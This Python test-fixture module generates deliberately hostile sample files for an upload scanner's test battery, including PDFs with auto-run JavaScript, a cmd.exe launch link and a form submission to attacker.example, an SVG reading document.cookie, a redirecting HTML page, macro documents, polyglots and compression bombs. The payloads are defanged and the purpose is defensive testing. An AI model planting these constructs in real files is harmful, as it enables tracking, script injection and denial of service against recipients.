"""Files for the upload tests, built by the tests themselves (nothing hostile is committed)."""

import io
import struct
import uuid
import zipfile
import zlib
from dataclasses import dataclass, field

from PIL import Image
from pypdf import PdfWriter
from pypdf.constants import UserAccessPermissions
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    PdfObject,
    TextStringObject,
)

from tests.clamd import EICAR


def pdf(text: str = "A chronology", pages: int = 1) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    writer.add_metadata({"/Title": text})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_stream(content: bytes) -> bytes:
    """A valid PDF whose page content stream holds `content` (uncompressed)."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=595, height=842)
    stream = DecodedStreamObject()
    stream.set_data(content)
    page[NameObject("/Contents")] = writer._add_object(stream)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_attachment(name: str, data: bytes) -> bytes:
    """A valid PDF carrying a file (in its EmbeddedFiles name tree)."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_attachment(name, data)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def eicar_pdf() -> bytes:
    return pdf_with_stream(b"% " + EICAR + b"\n")


DOCX_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="{main}"/>'
    "{extra}</Types>"
)
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCX_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)


def docx(
    text: str = "An assessment",
    *,
    main: str = DOCX_MAIN,
    extra_types: str = "",
    extra_entries: dict[str, bytes] | None = None,
) -> bytes:
    """A minimal Word document: Word and LibreOffice open it, `file` calls it Word 2007+."""
    body = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f"<w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml", DOCX_CONTENT_TYPES.format(main=main, extra=extra_types)
        )
        archive.writestr("_rels/.rels", DOCX_RELS)
        archive.writestr("word/document.xml", body)
        for name, data in (extra_entries or {}).items():
            archive.writestr(name, data)
    return out.getvalue()


def image(kind: str = "PNG", size: tuple[int, int] = (64, 48), **save: object) -> bytes:
    picture = Image.new("RGB", size, (200, 30, 30))
    out = io.BytesIO()
    picture.save(out, kind, **save)
    return out.getvalue()


# --- The bad-input battery (test_battery.py): hostile and awkward files, built here. ---


def _pdf_bytes(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def encrypted_pdf(user_password: str, owner_password: str, algorithm: str = "AES-256") -> bytes:
    """A PDF encrypted with these passwords. An empty user password opens it without asking
    (only the owner's permissions are restricted, here to printing)."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.encrypt(
        user_password=user_password,
        owner_password=owner_password,
        permissions_flag=UserAccessPermissions.PRINT,
        algorithm=algorithm,
    )
    return _pdf_bytes(writer)


def _action(kind: str, **entries: PdfObject) -> DictionaryObject:
    action = DictionaryObject(
        {NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind)}
    )
    action.update({NameObject(f"/{key}"): value for key, value in entries.items()})
    return action


def _javascript() -> DictionaryObject:
    return _action("/JavaScript", JS=TextStringObject("app.alert('Front Door test');"))


def pdf_with_action(where: str) -> bytes:
    """A one-page PDF that runs something: JavaScript when opened ("open"), JavaScript
    chained after an innocent go-to-page opening action ("open_next"), document-level
    JavaScript in the names tree ("names"), a link that launches a program ("launch"),
    JavaScript when a bookmark is followed ("bookmark"), a form field's calculation script
    ("form_field"), or, when the page is shown, JavaScript ("page_aa") or sending the form
    to a web address, which tells its owner the file was opened ("page_aa_submit")."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=595, height=842)
    root = writer._root_object
    if where == "open":
        root[NameObject("/OpenAction")] = writer._add_object(_javascript())
    elif where == "open_next":
        go_to = _action(
            "/GoTo",
            D=ArrayObject([page.indirect_reference, NameObject("/Fit")]),
            Next=writer._add_object(_javascript()),
        )
        root[NameObject("/OpenAction")] = writer._add_object(go_to)
    elif where == "names":
        tree = DictionaryObject(
            {
                NameObject("/Names"): ArrayObject(
                    [TextStringObject("hello"), writer._add_object(_javascript())]
                )
            }
        )
        root[NameObject("/Names")] = DictionaryObject(
            {NameObject("/JavaScript"): writer._add_object(tree)}
        )
    elif where == "launch":
        link = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Link"),
                NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (50, 50, 300, 100)]),
                NameObject("/A"): _action("/Launch", F=TextStringObject("cmd.exe")),
            }
        )
        page[NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
    elif where == "bookmark":
        outlines = writer._add_object(
            DictionaryObject({NameObject("/Type"): NameObject("/Outlines")})
        )
        item = writer._add_object(
            DictionaryObject(
                {
                    NameObject("/Title"): TextStringObject("Chronology"),
                    NameObject("/Parent"): outlines,
                    NameObject("/A"): _javascript(),
                }
            )
        )
        outlines_object = outlines.get_object()
        outlines_object[NameObject("/First")] = item
        outlines_object[NameObject("/Last")] = item
        outlines_object[NameObject("/Count")] = NumberObject(1)
        root[NameObject("/Outlines")] = outlines
    elif where == "form_field":
        # A text field whose value is worked out by a script (a calculate action), kept on
        # the field itself, apart from its widget on the page.
        field = writer._add_object(
            DictionaryObject(
                {
                    NameObject("/FT"): NameObject("/Tx"),
                    NameObject("/T"): TextStringObject("total"),
                    NameObject("/AA"): DictionaryObject({NameObject("/C"): _javascript()}),
                }
            )
        )
        widget = writer._add_object(
            DictionaryObject(
                {
                    NameObject("/Type"): NameObject("/Annot"),
                    NameObject("/Subtype"): NameObject("/Widget"),
                    NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (50, 50, 300, 80)]),
                    NameObject("/Parent"): field,
                    NameObject("/P"): page.indirect_reference,
                }
            )
        )
        field.get_object()[NameObject("/Kids")] = ArrayObject([widget])
        page[NameObject("/Annots")] = ArrayObject([widget])
        root[NameObject("/AcroForm")] = DictionaryObject(
            {NameObject("/Fields"): ArrayObject([field])}
        )
    elif where == "page_aa":
        page[NameObject("/AA")] = DictionaryObject(
            {NameObject("/O"): writer._add_object(_javascript())}
        )
    elif where == "page_aa_submit":
        submit = _action("/SubmitForm", F=TextStringObject("https://attacker.example/opened"))
        page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): writer._add_object(submit)})
    else:
        raise ValueError(where)
    return _pdf_bytes(writer)


def pdf_cut_in_half() -> bytes:
    """The first half of a three-page PDF, as a failed download or copy leaves it."""
    whole = pdf(pages=3)
    return whole[: len(whole) // 2]


def windows_executable() -> bytes:
    """A minimal, well-formed 32-bit Windows console program (its code returns at once)."""
    dos = bytearray(64)
    dos[0:2] = b"MZ"
    dos[0x3C:0x40] = struct.pack("<I", 64)  # e_lfanew: the PE header follows
    coff = struct.pack("<4sHHIIIHH", b"PE\0\0", 0x014C, 1, 0, 0, 0, 0xE0, 0x0102)
    optional = struct.pack(
        "<HBBIIIIIIIIIHHHHHHIIIIHHIIIIII",
        0x010B,  # PE32
        14,
        0,
        0x200,  # size of code
        0,
        0,
        0x1000,  # entry point
        0x1000,  # base of code
        0x2000,  # base of data
        0x400000,  # image base
        0x1000,  # section alignment
        0x200,  # file alignment
        6,
        0,
        0,
        0,
        6,
        0,
        0,
        0x2000,  # size of image
        0x200,  # size of headers
        0,
        3,  # console subsystem
        0,
        0x100000,
        0x1000,
        0x100000,
        0x1000,
        0,
        16,  # data directories
    ) + bytes(16 * 8)
    section = struct.pack("<8sIIIIIIHHI", b".text", 1, 0x1000, 0x200, 0x200, 0, 0, 0, 0, 0x60000020)
    headers = (bytes(dos) + coff + optional + section).ljust(0x200, b"\0")
    return headers + b"\xc3".ljust(0x200, b"\0")  # ret


def elf_executable() -> bytes:
    """A minimal static x86-64 Linux program that exits with status 0."""
    code = b"\x31\xff\xb8\x3c\x00\x00\x00\x0f\x05"  # xor edi,edi; mov eax,60; syscall
    base, header_size = 0x400000, 64 + 56
    header = b"\x7fELF" + bytes([2, 1, 1, 0]) + bytes(8)
    header += struct.pack(
        "<HHIQQQIHHHHHH", 2, 0x3E, 1, base + header_size, 64, 0, 0, 64, 56, 1, 0, 0, 0
    )
    program = struct.pack(
        "<IIQQQQQQ", 1, 5, 0, base, base, header_size + len(code), header_size + len(code), 0x1000
    )
    return header + program + code


def svg() -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<svg xmlns="http://www.w3.org/2000/svg" width="64" height="48">'
        b'<rect width="64" height="48" fill="red"/>'
        b"<script>alert(document.cookie)</script></svg>\n"
    )


def html() -> bytes:
    return (
        b"<!DOCTYPE html>\n<html><head><title>Chronology</title></head>\n"
        b"<body><h1>Chronology</h1><script>location='https://attacker.example/'</script>"
        b"</body></html>\n"
    )


def rtf() -> bytes:
    return b"{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Times New Roman;}}\\f0\\fs24 An assessment\\par}\n"


def plain_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("notes.txt", "Meeting notes\n")
        archive.writestr("photos/readme.txt", "Nothing here\n")
    return out.getvalue()


def docx_with_zeros(megabytes: int, entries: int = 1) -> bytes:
    """A Word document with extra entries (images, by their names) of `megabytes` MB of
    zeros each; deflate packs them about 1000 to 1. Written a megabyte at a time: the zeros
    are never all in memory."""
    out = io.BytesIO(docx())
    zeros = bytes(1024 * 1024)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        for number in range(1, entries + 1):
            with archive.open(f"word/media/image{number}.bmp", "w") as entry:
                for _ in range(megabytes):
                    entry.write(zeros)
    return out.getvalue()


def docx_with_many_entries(count: int) -> bytes:
    return docx(extra_entries={f"customXml/item{n}.xml": b"<a/>" for n in range(count)})


def encrypted_docx(password: str) -> bytes:
    """A Word document encrypted with a password the way Word does it (ECMA-376 agile
    encryption, in an OLE compound file), by msoffcrypto-tool."""
    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    OOXMLFile(io.BytesIO(docx())).encrypt(password, out)
    return out.getvalue()


# A compound file binary (CFB, "OLE2") writer, for Word 97-2003 documents and VBA projects:
# 512-byte sectors, every stream at least 4096 bytes (so no mini stream), one FAT.
CFB_FREE, CFB_END, CFB_FAT, CFB_NONE = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
WORD_CLSID = "00020906-0000-0000-c000-000000000046"
EXCEL_CLSID = "00020820-0000-0000-c000-000000000046"


@dataclass
class _Entry:
    name: str
    type: int  # 1 storage, 2 stream, 5 root
    data: bytes = b""
    children: dict[str, "_Entry"] = field(default_factory=dict)
    left: int = CFB_NONE
    right: int = CFB_NONE
    child: int = CFB_NONE
    red: bool = False
    start: int = 0
    clsid: bytes = bytes(16)


def compound_file(streams: dict[str, bytes], clsid: str = "") -> bytes:
    """An OLE compound file holding these streams ("Storage/Stream" paths make storages),
    its root storage marked with `clsid` (which application the file belongs to)."""
    root = _Entry("Root Entry", 5, clsid=uuid.UUID(clsid).bytes_le if clsid else bytes(16))
    for path, data in streams.items():
        *storages, name = path.split("/")
        here = root
        for storage in storages:
            here = here.children.setdefault(storage, _Entry(storage, 1))
        here.children[name] = _Entry(name, 2, data.ljust(4096, b"\0"))
    entries = [root]

    def number(parent: _Entry) -> None:
        first = len(entries)
        children = sorted(parent.children.values(), key=lambda e: (len(e.name), e.name.upper()))
        entries.extend(children)
        ids = list(range(first, first + len(children)))
        parent.child = _sibling_tree(entries, ids, 0, _depth(len(ids)))
        for child in children:
            number(child)

    number(root)
    sectors: list[bytes] = []
    fat: list[int] = []

    def chain(data: bytes) -> int:
        start = len(sectors)
        count = -(-len(data) // 512)
        sectors.extend(data[n * 512 : (n + 1) * 512].ljust(512, b"\0") for n in range(count))
        fat.extend([*range(start + 1, start + count), CFB_END])
        return start

    for entry in entries:
        if entry.type == 2:
            entry.start = chain(entry.data)
    directory = b"".join(_directory_entry(entry) for entry in entries)
    while len(directory) % 512:
        directory += _directory_entry(None)
    directory_start = chain(directory)
    fat_count = 1
    while len(sectors) + fat_count > fat_count * 128:
        fat_count += 1
    assert fat_count <= 109, "too big for this small writer"
    fat_start = len(sectors)
    fat.extend([CFB_FAT] * fat_count)
    fat.extend([CFB_FREE] * (fat_count * 128 - len(fat)))
    table = struct.pack(f"<{len(fat)}I", *fat)
    sectors.extend(table[n * 512 : (n + 1) * 512] for n in range(fat_count))
    difat = [*range(fat_start, fat_start + fat_count)] + [CFB_FREE] * (109 - fat_count)
    header = (
        OLE_MAGIC
        + bytes(16)
        + struct.pack("<HHHHH6x", 0x003E, 0x0003, 0xFFFE, 9, 6)
        + struct.pack("<9I", 0, fat_count, directory_start, 0, 4096, CFB_END, 0, CFB_END, 0)
        + struct.pack("<109I", *difat)
    )
    assert len(header) == 512
    return header + b"".join(sectors)


def _depth(count: int) -> int:
    """The depth of the last level of a balanced tree of `count` nodes (0 for one node)."""
    return max(count.bit_length() - 1, 0)


def _sibling_tree(entries: list[_Entry], ids: list[int], depth: int, last: int) -> int:
    """A balanced binary tree of the siblings, a valid red-black tree: the nodes of an
    incomplete last level are red, the rest black."""
    if not ids:
        return CFB_NONE
    middle = len(ids) // 2
    node = entries[ids[middle]]
    node.left = _sibling_tree(entries, ids[:middle], depth + 1, last)
    node.right = _sibling_tree(entries, ids[middle + 1 :], depth + 1, last)
    node.red = depth == last and depth > 0
    return ids[middle]


def _directory_entry(entry: _Entry | None) -> bytes:
    if entry is None:
        return struct.pack(
            "<64sHBBIII16sIQQIQ", b"", 0, 0, 0, *[CFB_NONE] * 3, bytes(16), 0, 0, 0, 0, 0
        )
    name = (entry.name + "\0").encode("utf-16-le")
    assert len(name) <= 64
    start = entry.start if entry.type == 2 else (CFB_END if entry.type == 5 else 0)
    size = len(entry.data) if entry.type == 2 else 0
    return struct.pack(
        "<64sHBBIII16sIQQIQ",
        name,
        len(name),
        entry.type,
        0 if entry.red else 1,
        entry.left,
        entry.right,
        entry.child,
        entry.clsid,
        0,
        0,
        0,
        start,
        size,
    )


OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
FIB_ENCRYPTED = 0x0100
FIB_TABLE_1 = 0x0200


def word_document_stream(flags: int = FIB_TABLE_1) -> bytes:
    """A Word 97 WordDocument stream: its File Information Block (FibBase with wIdent
    0xA5EC and nFib 0x00C1, then the empty FibRgW, FibRgLw and FibRgFcLcb97 with their
    counts), then "An assessment" as 8-bit text."""
    base = struct.pack(
        "<HHHHHHHIBBHHII", 0xA5EC, 0x00C1, 0, 0x0809, 0, flags, 0x00BF, 0, 0, 0, 0, 0, 0, 0
    )
    assert len(base) == 32
    fib = base + struct.pack("<H", 14) + bytes(28) + struct.pack("<H", 22) + bytes(88)
    fib += struct.pack("<H", 0x5D) + bytes(0x5D * 8) + struct.pack("<H", 0)
    return fib.ljust(1536, b"\0") + b"An assessment\r"


VBA_PROJECT = {
    # MS-OVBA: a VBA project storage holds a PROJECT stream and a VBA storage with the
    # _VBA_PROJECT and dir streams (the module's source would be there too).
    "PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\nDocument=ThisDocument/&H00000000'
    b'\r\nName="Project"\r\n',
    "VBA/_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x00\x00",
    "VBA/dir": b"\x01\x00\x00",
    "VBA/ThisDocument": b'Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\nEnd Sub\r\n',
}


def doc(*, macros: bool = False, encrypted: bool = False) -> bytes:
    """A Word 97-2003 document (.doc): Word's CLSID on the root, WordDocument and 1Table
    streams; with a Macros storage holding a VBA project, or with the FIB's fEncrypted
    flag set (as Word sets it for a document with a password to open)."""
    flags = FIB_TABLE_1 | (FIB_ENCRYPTED if encrypted else 0)
    streams = {"WordDocument": word_document_stream(flags), "1Table": b""}
    if macros:
        streams.update({f"Macros/{path}": data for path, data in VBA_PROJECT.items()})
    return compound_file(streams, WORD_CLSID)


def excel_workbook() -> bytes:
    """An OLE compound file marked as an Excel 97-2003 workbook: no WordDocument stream."""
    bof = struct.pack("<HHHHHHII", 0x0809, 16, 0x0600, 0x0005, 0, 0, 0, 0)
    return compound_file({"Workbook": bof}, EXCEL_CLSID)


def vba_project_bin() -> bytes:
    """word/vbaProject.bin: a VBA project at the root of its own compound file."""
    return compound_file(VBA_PROJECT)


DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"


def docm() -> bytes:
    """A macro-enabled Word document (as Word saves a .docm)."""
    return docx(
        main=DOCM_MAIN,
        extra_types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
        extra_entries={"word/vbaProject.bin": vba_project_bin()},
    )


def docx_with_embedded_macros() -> bytes:
    """A .docx with an embedded Word 97-2003 document that has macros, under a name that
    says nothing about macros."""
    return docx(extra_entries={"word/embeddings/oleObject1.bin": doc(macros=True)})


def jpeg_with_location() -> bytes:
    """A photo with EXIF (camera, GPS position, turned 90 degrees) and XMP naming the place."""
    picture = Image.new("RGB", (64, 48), (30, 120, 200))
    exif = Image.Exif()
    exif[0x010F] = "Front Door Test Camera"
    exif[0x0112] = 6  # shown turned 90 degrees clockwise
    gps = exif.get_ifd(0x8825)
    gps.update({1: "N", 2: (52.0, 11.0, 30.0), 3: "W", 4: (2.0, 13.0, 10.0)})
    xmp = (
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
        b'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
        b'xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="52,11.5N" '
        b'exif:GPSLongitude="2,13.16W"/></rdf:RDF></x:xmpmeta>'
    )
    out = io.BytesIO()
    picture.save(out, "JPEG", exif=exif, xmp=xmp)
    return out.getvalue()


def png_with_trailer() -> bytes:
    """A PNG with a zip (holding HTML) after its IEND chunk: a PNG/zip polyglot."""
    trailer = io.BytesIO()
    with zipfile.ZipFile(trailer, "w") as archive:
        archive.writestr("index.html", html())
    return image("PNG") + trailer.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_claiming(width: int, height: int) -> bytes:
    """A small, well-formed PNG header claiming width x height 1-bit grey pixels, with one
    row of image data (a decompression bomb's shape, without the bomb)."""
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    row = b"\0" * (1 + -(-width // 8))
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", zlib.compress(row, 9))
        + _png_chunk(b"IEND", b"")
    )


REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def docx_with_relationship(kind: str, target: str, external: bool = True) -> bytes:
    """A .docx whose document part has one more relationship: a template, an OLE object..."""
    mode = ' TargetMode="External"' if external else ""
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId9" Type="{REL}/{kind}" Target="{target}"{mode}/>'
        "</Relationships>"
    )
    return docx(extra_entries={"word/_rels/document.xml.rels": rels.encode()})


def docx_with_program() -> bytes:
    """A .docx carrying a Windows program among its parts."""
    return docx(extra_entries={"word/embeddings/setup.exe": b"MZ" + bytes(200)})


def doc_with_ole_object() -> bytes:
    """A Word 97-2003 document with an embedded OLE object (an ObjectPool storage holding a
    packaged file, as "Insert > Object" makes)."""
    streams = {
        "WordDocument": word_document_stream(FIB_TABLE_1),
        "1Table": b"",
        "ObjectPool/_1234567890/\x01Ole10Native": b"MZ" + bytes(200),
    }
    return compound_file(streams, WORD_CLSID)


def mpo_photo() -> bytes:
    """A camera JPEG with a second, larger preview picture (Multi-Picture Format)."""
    first = Image.new("RGB", (64, 48), (10, 160, 90))
    second = Image.new("RGB", (128, 96), (10, 160, 90))
    out = io.BytesIO()
    first.save(out, "MPO", save_all=True, append_images=[second])
    return out.getvalue()


def jpeg_with_icc_payload() -> bytes:
    """A JPEG whose "colour profile" is 200 KB of something else."""
    out = io.BytesIO()
    Image.new("RGB", (64, 48), (200, 30, 30)).save(
        out, "JPEG", icc_profile=b"ICCSECRET" + bytes(200 * 1024)
    )
    return out.getvalue()
